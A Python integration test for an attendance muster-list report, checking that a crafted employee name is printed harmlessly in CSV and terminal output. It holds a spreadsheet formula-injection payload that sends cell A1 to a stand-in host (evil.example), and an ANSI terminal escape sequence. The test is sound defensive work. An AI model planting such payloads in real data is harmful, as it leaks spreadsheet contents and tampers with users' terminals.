"""The muster list as CSV and as a table, with an HR name crafted to attack a spreadsheet
and a terminal: read from the real Kafka (session stack), printed harmless."""

from __future__ import annotations

import asyncio
import csv
import io
import shutil
import uuid
from datetime import UTC, datetime
from pathlib import Path

import pytest

from ingest.kafka import ensure_topics, make_producer
from ingest.settings import load_settings
from processors.attendance_days import Presence
from tests.conftest import SAMPLE_SITE
from tests.support.cli import occupancy

pytestmark = pytest.mark.integration

EMPLOYEE = "196903151996012001"  # Rahmat Saputra in the sample, hq-jakarta
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"open")'
ANSI = "\x1b]0;pwned\x07\x1b[31m[bold]Red[/bold]"


def roster_with(name: str, folder: Path) -> Path:
    for file in ("roster.yaml", "employees.csv"):
        shutil.copy(SAMPLE_SITE.parent / file, folder / file)
    rows = list(csv.reader((folder / "employees.csv").open()))
    for row in rows:
        if row[0] == EMPLOYEE:
            row[1] = name
    with (folder / "employees.csv").open("w", newline="") as out:
        csv.writer(out).writerows(rows)
    return folder / "roster.yaml"


async def present(env: dict[str, str]) -> None:
    settings = load_settings(
        kafka_bootstrap=env["OCC_KAFKA_BOOTSTRAP"], kafka_topic_prefix=env["OCC_KAFKA_TOPIC_PREFIX"]
    )
    await ensure_topics(settings)
    producer = make_producer(settings)
    await producer.start()
    try:
        value = Presence(employee=EMPLOYEE, building="hq-jakarta", since=datetime.now(UTC))
        await producer.send_and_wait(
            settings.kafka_topic("presence"),
            value.model_dump_json().encode(),
            key=EMPLOYEE.encode(),
        )
    finally:
        await producer.stop()


@pytest.mark.parametrize("name", [FORMULA, ANSI])
def test_a_crafted_name_stays_text_in_the_muster_list(
    name: str, stack_env: dict[str, str], tmp_path: Path
) -> None:
    env = {
        "OCC_KAFKA_BOOTSTRAP": stack_env["OCC_KAFKA_BOOTSTRAP"],
        "OCC_KAFKA_TOPIC_PREFIX": f"t{uuid.uuid4().hex[:8]}",
        "OCC_SITE_FILE": str(SAMPLE_SITE),
        "OCC_ROSTER_FILE": str(roster_with(name, tmp_path)),
    }
    asyncio.run(present(env))
    as_csv = occupancy("report", "presence", "--building", "hq-jakarta", "--format", "csv", env=env)
    assert as_csv.returncode == 0, as_csv.stderr
    [header, row] = list(csv.reader(io.StringIO(as_csv.stdout)))
    cell = row[header.index("name")]
    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    if name == FORMULA:
        assert cell == "'" + FORMULA
    table = occupancy("report", "presence", "--building", "hq-jakarta", env=env)
    assert table.returncode == 0, table.stderr
    assert "\x1b" not in table.stdout and "\x07" not in table.stdout
    if name == ANSI:
        assert "[bold]Red[/bold]" in table.stdout  # markup shown, not applied
